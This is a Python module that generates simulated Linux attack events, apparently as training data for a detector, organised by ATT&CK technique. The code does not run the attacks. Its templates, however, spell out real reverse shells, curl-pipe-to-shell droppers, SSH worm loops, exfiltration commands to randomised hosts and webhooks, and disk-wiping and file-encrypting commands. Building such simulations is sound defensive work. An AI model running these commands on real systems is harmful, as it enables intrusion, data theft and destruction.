"""Simulated Linux attacks, part 2: discovery, lateral movement, collection, command and control,
exfiltration and impact.

Behaviour follows the public descriptions of the registered ATT&CK technique ids (ATT&CK Linux
matrix, Atomic Red Team Linux tests); every name, path, address and order is randomised.
"""

from __future__ import annotations

from pipeline.training.sim.builder import Proc
from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.linux_attack1 import bin_, drop_path, fetch
from pipeline.training.sim.session import Session
from schemas.events import Platform

REG = Registry(Platform.LINUX)
add = REG.add

_RECON = ("id", "whoami", "uname -a", "hostname", "cat /etc/passwd", "cat /etc/os-release", "cat /etc/issue", "ps aux", "ps -ef",
          "netstat -antp", "ss -tulpn", "ip a", "ifconfig", "ip route", "arp -a", "cat /etc/resolv.conf", "last", "w", "who",
          "cat /proc/version", "lsmod", "df -h", "mount", "crontab -l", "ls -la /home", "cat /etc/group", "sudo -l", "env",
          "find / -writable -type d 2>/dev/null", "cat /etc/hosts", "systemctl list-units --type=service", "lscpu", "getent passwd",
          "docker ps", "cat /proc/1/cgroup", "ls -la /root")


def _beacon(s: Session, p: Proc, *, port: int | None = None, n: tuple[int, int] = (4, 30)) -> None:
    b, r = s.b, s.r
    ip = r.ext_ip()
    port = port or r.pick((443, 80, 8080, 8443, 4444, 53))
    interval = r.pick((5.0, 15.0, 30.0, 60.0))
    if r.chance(0.6):
        b.dns(p, r.domain(), (ip,))
    for _ in range(r.num(*n)):
        b.connect(p, ip, port)
        b.tick(interval * 0.8, interval * 1.2)


# --- Discovery ---------------------------------------------------------------------------------

@add("T1082", "Discovery")
def recon_burst(s: Session) -> None:
    """A burst of host/user/network reconnaissance commands right after access."""
    r = s.r
    for cmd in r.sample(_RECON, r.num(3, 10)):
        tool = cmd.split()[0]
        s.run(bin_(tool, s), cmd, via_shell=0.4)
        s.b.tick(0.2, 15.0)
    if r.chance(0.3):
        s.cmd(f"curl -s http://{r.pick(('ifconfig.me', 'ipinfo.io', 'icanhazip.com'))}")


@add("T1046", "Discovery")
def linux_port_scan(s: Session) -> None:
    """Internal hosts are scanned (nmap/masscan/a bash /dev/tcp loop)."""
    b, r = s.b, s.r
    net = r.int_ip().rsplit(".", 1)[0]
    cmd = r.pick((f"nmap -sS -p 22,80,443,445,3306,6379 {net}.0/24", f"masscan {net}.0/24 -p1-65535 --rate 1000",
                  f"nmap -sn {net}.0/24", f"for i in $(seq 1 254); do (echo > /dev/tcp/{net}.$i/22) 2>/dev/null && echo {net}.$i; done"))
    p = s.cmd(cmd) if cmd.startswith("for") else s.run(bin_(cmd.split()[0], s), cmd)
    for _ in range(r.num(20, 100)):
        b.connect(p, f"{net}.{r.num(1, 254)}", r.pick((22, 80, 443, 445, 3306, 6379, 8080)))


@add("T1613", "Discovery")
def cloud_container_discovery(s: Session) -> None:
    """Cloud metadata and container orchestration are queried (IMDS, kubectl, docker)."""
    b, r = s.b, s.r
    for cmd in r.sample(("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
                         "kubectl get pods --all-namespaces", "kubectl get secrets -A", "docker ps -a", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                         "aws sts get-caller-identity", "aws s3 ls"), r.num(2, 4)):
        p = s.run(bin_(cmd.split()[0], s), cmd, via_shell=0.3)
        if "169.254" in cmd:
            b.connect(p, "169.254.169.254", 80)


# --- LateralMovement ---------------------------------------------------------------------------

@add("T1021.004", "LateralMovement")
def ssh_pivot(s: Session) -> None:
    """Harvested keys are used to run commands or copy tools to other hosts over SSH."""
    b, r = s.b, s.r
    home = "/root" if s.user == "root" else f"/home/{s.user}"
    for _ in range(r.num(1, 5)):
        ip = r.int_ip()
        user = r.pick(("root", "ubuntu", "admin", s.user))
        cmd = r.pick((f"ssh -i {home}/.ssh/id_rsa -o StrictHostKeyChecking=no {user}@{ip} 'curl -s http://{r.domain()}/x|sh'",
                      f"ssh -o StrictHostKeyChecking=no -o BatchMode=yes {user}@{ip} {r.pick(('id', 'uname -a', 'wget -q http://' + r.ext_ip() + '/a -O /tmp/a;chmod +x /tmp/a;/tmp/a'))}",
                      f"scp -o StrictHostKeyChecking=no {drop_path(s)} {user}@{ip}:/tmp/",
                      f"sshpass -p '{r.token(8, 12)}' ssh {user}@{ip} 'bash -s' < {drop_path(s)}"))
        tool = cmd.split()[0]
        p = s.run(bin_(tool, s), cmd, via_shell=0.3)
        if tool == "sshpass":
            p = s.run(bin_("ssh", s), cmd.split("' ", 1)[1], parent=p)
        b.connect(p, ip, 22)


@add("T1570", "LateralMovement")
def worm_spread(s: Session) -> None:
    """A script loops over known_hosts/ARP neighbours, copying and starting itself (cryptominer-worm style)."""
    b, r = s.b, s.r
    script = drop_path(s)
    p = s.cmd(f"for h in $(awk '{{print $1}}' ~/.ssh/known_hosts | cut -d, -f1); do scp -o StrictHostKeyChecking=no {script} $h:/tmp/ && ssh -o StrictHostKeyChecking=no $h 'nohup /tmp/{script.rsplit('/', 1)[1]} &'; done")
    for _ in range(r.num(2, 8)):
        ip = r.int_ip()
        c = s.run(bin_(r.pick(("scp", "ssh")), s), f"{r.pick(('scp', 'ssh'))} -o StrictHostKeyChecking=no {ip}", parent=p)
        b.connect(c, ip, 22)


@add("T1021.004", "LateralMovement")
def inbound_ssh_tooling(s: Session) -> None:
    """The target side of lateral movement: an SSH session from an internal host runs a dropper."""
    b, r = s.b, s.r
    sshd = b.existing("/usr/sbin/sshd", user="root")
    priv = s.run("/usr/sbin/sshd", f"sshd: {s.user}@notty", parent=sshd, attack=False)
    b.connect(priv, r.int_ip(), r.num(30000, 65000), outbound=False)
    sh = s.run("/bin/bash", f"bash -c {r.pick(('/tmp/' + r.token(), 'nohup /tmp/' + r.token() + ' &', 'cd /tmp;./' + r.token()))}", parent=priv)
    x = s.run(f"/tmp/{r.token()}", f"/tmp/{r.token()}", parent=sh)
    b.connect(x, r.int_ip(), 22)


# --- Collection --------------------------------------------------------------------------------

@add("T1560.001", "Collection")
def archive_secrets(s: Session) -> None:
    """Home directories, keys, configs and databases are packed into a (hidden) archive."""
    b, r = s.b, s.r
    out = f"{r.pick(('/tmp', '/dev/shm', '/var/tmp'))}/{r.pick(('.', ''))}{r.token()}.{r.pick(('tgz', 'tar.gz', 'zip', 'tar'))}"
    src = " ".join(r.sample(("/home/*/.ssh", "/root/.ssh", "/etc/passwd", "/etc/shadow", "/var/www", "/home/*/Documents", "/opt/app/config",
                             "~/.aws", "/var/lib/mysql", "/home/*/.bash_history", "~/.kube"), r.num(2, 5)))
    cmd = r.pick((f"tar czf {out} {src}", f"zip -qr {out} {src}", f"tar -cf {out} {src}"))
    p = s.run(bin_(cmd.split()[0], s), cmd, via_shell=0.4)
    b.create(p, out)
    b.write(p, out, r.num(10**5, 10**9))


@add("T1005", "Collection")
def find_and_stage(s: Session) -> None:
    """Documents and databases are found and copied into a staging directory."""
    b, r = s.b, s.r
    stage = f"/tmp/.{r.token()}"
    s.run(bin_("mkdir", s), f"mkdir -p {stage}")
    p = s.cmd(r.pick((f"find / -name '*.pdf' -o -name '*.docx' -o -name '*.xlsx' 2>/dev/null | xargs -I{{}} cp {{}} {stage}",
                      f"find /home -type f \\( -name '*.kdbx' -o -name '*.pem' -o -name '*.sql' \\) -exec cp {{}} {stage} \\;",
                      f"cp -r /var/www/html/config* /etc/mysql {stage}")))
    for _ in range(r.num(5, 30)):
        b.create(p, f"{stage}/{r.name(r.pick(('pdf', 'docx', 'sql', 'kdbx', 'pem', 'conf')))}")


@add("T1056.001", "Collection")
def keylog_and_capture(s: Session) -> None:
    """Keystrokes/terminal sessions, the clipboard, microphone or screen are captured to files."""
    b, r = s.b, s.r
    out = f"{s.wdir()}/.{r.token()}"
    cmd = r.pick((f"script -q -f {out}", f"strace -e trace=read -p {r.num(300, 90000)} -o {out}", f"xclip -o -selection clipboard >> {out}",
                  f"arecord -d 60 -f cd {out}.wav", f"import -window root {out}.png", f"logkeys --start --output {out}"))
    tool = cmd.split()[0]
    p = s.run(bin_(tool, s), cmd, via_shell=0.3 if ">>" not in cmd else 1.0)
    for _ in range(r.num(2, 12)):
        b.write(p, out, r.num(20, 4000))
        b.tick(5, 60)


# --- CommandAndControl -------------------------------------------------------------------------

@add("T1105", "CommandAndControl")
def linux_ingress(s: Session) -> None:
    """Tools are pulled with curl/wget/python into /tmp, made executable and started."""
    r = s.r
    for _ in range(r.num(1, 3)):
        fetch(s, drop_path(s), run=r.chance(0.7))


@add("T1071.001", "CommandAndControl")
def linux_http_beacon(s: Session) -> None:
    """An implant in a writable dir (or a curl loop) checks in over HTTP(S) at a steady interval."""
    r = s.r
    if r.chance(0.5):
        path = drop_path(s)
        fetch(s, path, run=False)
        p = s.run(path, f"{path}{r.pick(('', ' -c ' + r.domain(), ' --server https://' + r.domain()))}")
    else:
        p = s.cmd(f"while true; do curl -s -k https://{r.domain()}/{r.token()} | bash; sleep {r.num(5, 120)}; done")
    _beacon(s, p)


@add("T1095", "CommandAndControl")
def linux_reverse_shell(s: Session) -> None:
    """A raw reverse shell (nc -e, /dev/tcp, socat, mkfifo) to an external high port."""
    b, r = s.b, s.r
    ip, port = r.ext_ip(), r.pick((4444, 1337, 9001, 5555, 443, 31337))
    cmd = r.pick((f"nc -e /bin/sh {ip} {port}", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1", f"socat tcp-connect:{ip}:{port} exec:/bin/sh,pty,stderr,setsid",
                  f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f", f"ncat {ip} {port} -e /bin/bash"))
    p = s.cmd(cmd) if cmd.startswith(("bash", "rm")) else s.run(bin_(cmd.split()[0], s), cmd)
    b.connect(p, ip, port)
    sh = s.run("/bin/sh", "/bin/sh -i", parent=p)
    for c in r.sample(("id", "uname -a", "pwd", "ls -la"), r.num(0, 3)):
        s.run(bin_(c.split()[0], s), c, parent=sh)


@add("T1572", "CommandAndControl")
def linux_tunnel(s: Session) -> None:
    """A tunnel/reverse proxy is opened (ssh -R/-D, chisel, frp, ngrok, socat relay)."""
    r = s.r
    ip = r.ext_ip()
    tool_path = drop_path(s)
    image, cmd = r.pick(((bin_("ssh", s), f"ssh -f -N -R {r.num(1024, 65000)}:localhost:22 {r.token()}@{ip}"),
                         (bin_("ssh", s), f"ssh -D 1080 -N -f {r.token()}@{ip}"),
                         (tool_path, f"{tool_path} client {ip}:{r.pick((443, 8080))} R:socks"),
                         (tool_path, f"{tool_path} -c {s.wdir()}/frpc.ini"),
                         (bin_("socat", s), f"socat TCP-LISTEN:{r.num(1024, 65000)},fork TCP:{ip}:{r.pick((443, 22))}")))
    if image == tool_path:
        fetch(s, tool_path, run=False)
    p = s.run(image, cmd)
    _beacon(s, p, port=r.pick((22, 443, 8080, 7000)), n=(2, 6))


@add("T1071.004", "CommandAndControl")
def linux_dns_c2(s: Session) -> None:
    """DNS tunnelling (iodine/dnscat2 style): many TXT lookups with encoded labels to one domain."""
    b, r = s.b, s.r
    domain = r.domain()
    tool = drop_path(s)
    p = s.run(tool, r.pick((f"{tool} -f -P {r.token()} {domain}", f"{tool} --dns server={r.ext_ip()},domain={domain}", f"{tool} {domain}")))
    for _ in range(r.num(15, 60)):
        b.dns(p, f"{r.hexstr(r.num(20, 60))}.{domain}")
        b.tick(0.2, 2.0)
    b.connect(p, r.ext_ip(), 53, udp=True)


# --- Exfiltration ------------------------------------------------------------------------------

def _archive(s: Session) -> str:
    r = s.r
    out = f"/tmp/.{r.token()}.tgz"
    p = s.run(bin_("tar", s), f"tar czf {out} {r.pick(('/home', '/var/www', '/etc', '/opt/data', '/root'))}", via_shell=0.3)
    s.b.write(p, out, r.num(10**6, 10**9))
    return out


@add("T1048.003", "Exfiltration")
def linux_exfil_alt(s: Session) -> None:
    """Staged data leaves over raw TCP, FTP or plain HTTP POST (nc < file, curl -T, curl --data-binary)."""
    b, r = s.b, s.r
    f = _archive(s)
    ip = r.ext_ip()
    port = r.pick((80, 21, 8080, 4444, 9000))
    cmd = r.pick((f"nc {ip} {port} < {f}", f"curl -T {f} ftp://{ip}/ --user {r.token()}:{r.token()}", f"curl -s -X POST --data-binary @{f} http://{ip}:{port}/upload",
                  f"cat {f} > /dev/tcp/{ip}/{port}", f"python3 -c 'import requests;requests.post(\"http://{ip}:{port}/\",files={{\"f\":open(\"{f}\",\"rb\")}})'"))
    p = s.cmd(cmd) if ("<" in cmd or "/dev/tcp" in cmd) else s.run(bin_(cmd.split()[0], s) if not cmd.startswith("python3") else "/usr/bin/python3", cmd)
    for _ in range(r.num(1, 8)):
        b.connect(p, ip, port)


@add("T1567.002", "Exfiltration")
def linux_exfil_cloud(s: Session) -> None:
    """Data is synced to cloud storage (rclone, aws s3 cp to a foreign bucket, transfer.sh, webhooks)."""
    b, r = s.b, s.r
    f = _archive(s)
    cmd = r.pick((f"rclone copy {f} {r.pick(('mega', 'gdrive', 'dropbox'))}:{r.token()} --config /tmp/.rc.conf -q", f"aws s3 cp {f} s3://{r.token()}-{r.token()}/ --no-sign-request",
                  f"curl --upload-file {f} https://transfer.sh/{r.token()}", f"curl -F file=@{f} https://discord.com/api/webhooks/{r.num(10**17, 10**18)}/{r.token(30, 60)}"))
    tool = cmd.split()[0]
    p = s.run(bin_(tool, s), cmd)
    for _ in range(r.num(3, 25)):
        b.connect(p, r.ext_ip(), 443)


@add("T1041", "Exfiltration")
def linux_exfil_c2(s: Session) -> None:
    """An implant reads staged files and posts them in chunks to its server."""
    b, r = s.b, s.r
    f = _archive(s)
    url = f"https://{r.domain()}/{r.token()}"
    p = s.cmd(r.pick((f"split -b 1m {f} /tmp/.p_ && for x in /tmp/.p_*; do curl -s -k -X POST --data-binary @$x {url}; done",
                      f"base64 -w0 {f} | curl -s -d @- {url}", f"openssl s_client -quiet -connect {r.ext_ip()}:443 < {f}")))
    ip = r.ext_ip()
    for _ in range(r.num(5, 40)):
        b.connect(p, ip, 443)


@add("T1048", "Exfiltration")
def linux_exfil_dns(s: Session) -> None:
    """File contents are smuggled out in DNS query labels (dig/nslookup loops)."""
    b, r = s.b, s.r
    domain = r.domain()
    p = s.cmd(f"for l in $(xxd -p {drop_path(s)} | fold -w 60); do dig +short $l.{domain}; done")
    for _ in range(r.num(20, 80)):
        b.dns(p, f"{r.hexstr(60)}.{domain}")


# --- Impact ------------------------------------------------------------------------------------

@add("T1486", "Impact")
def linux_ransomware(s: Session) -> None:
    """Files are encrypted in place (openssl/gpg/a binary), renamed with a new extension, notes dropped."""
    b, r = s.b, s.r
    ext = r.pick(("locked", "enc", "crypt", r.token(3, 6)))
    if r.chance(0.5):
        p = s.cmd(f"find {r.pick(('/home', '/var/www', '/srv', '/opt', '/var/lib/mysql'))} -type f -exec openssl enc -aes-256-cbc -salt -in {{}} -out {{}}.{ext} -k {r.token(16, 32)} \\; -exec rm {{}} \\;")
    else:
        tool = drop_path(s)
        fetch(s, tool, run=False)
        p = s.run(tool, f"{tool} {r.pick(('/', '/home', '--path /srv', '-e /var/lib'))}")
    for d in r.sample(("/home/user/docs", "/var/www/html", "/srv/data", "/opt/app", "/var/lib/mysql"), r.num(2, 4)):
        b.create(p, f"{d}/{r.pick(('README_DECRYPT.txt', 'HOW_TO_RESTORE.txt', r.token().upper() + '.txt'))}")
        for _ in range(r.num(8, 40)):
            f = f"{d}/{r.name(r.pick(('pdf', 'sql', 'jpg', 'docx', 'php', 'conf', 'db')))}"
            b.write(p, f)
            b.rename(p, f, f"{f}.{ext}")


@add("T1485", "Impact")
def linux_wipe(s: Session) -> None:
    """Data or disks are destroyed (rm -rf /, shred, dd of=/dev/sda, database drops)."""
    b, r = s.b, s.r
    cmd = r.pick(("rm -rf --no-preserve-root /", f"rm -rf {r.pick(('/var/lib/mysql', '/srv/*', '/home/*', '/var/backups/*'))}", f"shred -uzn 3 {r.pick(('/var/backups/*', '/dev/sda1', '/srv/data/*'))}",
                  f"dd if=/dev/{r.pick(('zero', 'urandom'))} of=/dev/{r.pick(('sda', 'vda', 'nvme0n1'))} bs=1M", "mysql -e 'DROP DATABASE production'"))
    p = s.cmd(cmd)
    for _ in range(r.num(10, 60)):
        b.delete(p, f"{r.pick(('/var/backups', '/srv/data', '/home/user'))}/{r.name(r.pick(('bak', 'sql', 'tar.gz', 'db', 'pdf')))}")


@add("T1496", "Impact")
def linux_cryptominer(s: Session) -> None:
    """A miner is installed in a hidden folder, killed competitors, and connects to a stratum pool."""
    r = s.r
    for c in r.sample(("pkill -f kdevtmpfsi", "pkill -f xmrig", "killall -9 kinsing", "ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9"), r.num(0, 3)):
        s.cmd(c)
    miner = drop_path(s)
    fetch(s, miner, run=False)
    p = s.run(miner, f"{miner} -o {r.pick(('stratum+tcp://', ''))}{r.pick(('pool.supportxmr.com', 'xmr.' + r.domain(), r.ext_ip()))}:{r.pick((3333, 4444, 5555, 14444, 443))} -u {r.b64(40, 60)} -p x {r.pick(('-B', '--donate-level 1', '-t 4'))}")
    _beacon(s, p, port=r.pick((3333, 4444, 5555, 14444)), n=(3, 12))


@add("T1489", "Impact")
def linux_service_stop(s: Session) -> None:
    """Databases and services are stopped/disabled (before encryption or to deny service)."""
    r = s.r
    for svc in r.sample(("mysql", "postgresql", "nginx", "apache2", "docker", "redis", "mongod", "elasticsearch", "cron"), r.num(2, 6)):
        cmd = r.pick((f"systemctl stop {svc}", f"systemctl disable --now {svc}", f"service {svc} stop", f"pkill -9 {svc}"))
        s.run(bin_(cmd.split()[0], s), cmd, via_shell=0.4)


@add("T1531", "Impact")
def linux_account_lockout(s: Session) -> None:
    """Passwords are changed / accounts locked or deleted so admins lose access."""
    r = s.r
    for _ in range(r.num(2, 6)):
        user = r.pick(("root", "admin", "ubuntu", r.token()))
        cmd = r.pick((f"passwd -l {user}", f"usermod -L {user}", f"userdel -r {user}", f"echo '{user}:{r.token(12, 16)}' | chpasswd"))
        if "|" in cmd:
            s.cmd(cmd)
        else:
            s.run(bin_(cmd.split()[0], s), cmd)
    if r.chance(0.3):
        s.run(bin_("shutdown", s), "shutdown -r now")
